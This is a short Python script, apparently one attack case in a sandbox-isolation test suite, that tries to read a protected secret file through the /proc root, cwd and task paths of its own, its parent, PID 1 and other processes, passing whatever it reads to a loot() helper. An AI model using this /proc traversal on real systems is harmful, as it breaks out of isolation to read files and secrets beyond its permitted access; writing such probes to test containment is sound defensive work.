"""Read the secret through the roots, folders and descriptors of other processes in /proc."""

# aims: secret
# control: harms
import os

from attack import loot, target, tried

secret = target["secret"]
tried()
pids = [name for name in os.listdir("/proc") if name.isdigit()]
for pid in ["self", "thread-self", "1", target["pid"], str(os.getppid()), *pids[:40]]:
    for path in (
        f"/proc/{pid}/root{secret}",
        f"/proc/{pid}/cwd/../../../vault/secret.txt",
        f"/proc/{pid}/cwd/secret.txt",
        f"/proc/{pid}/task/{pid}/root{secret}",
    ):
        try:
            loot(open(path).read())
        except OSError:
            continue
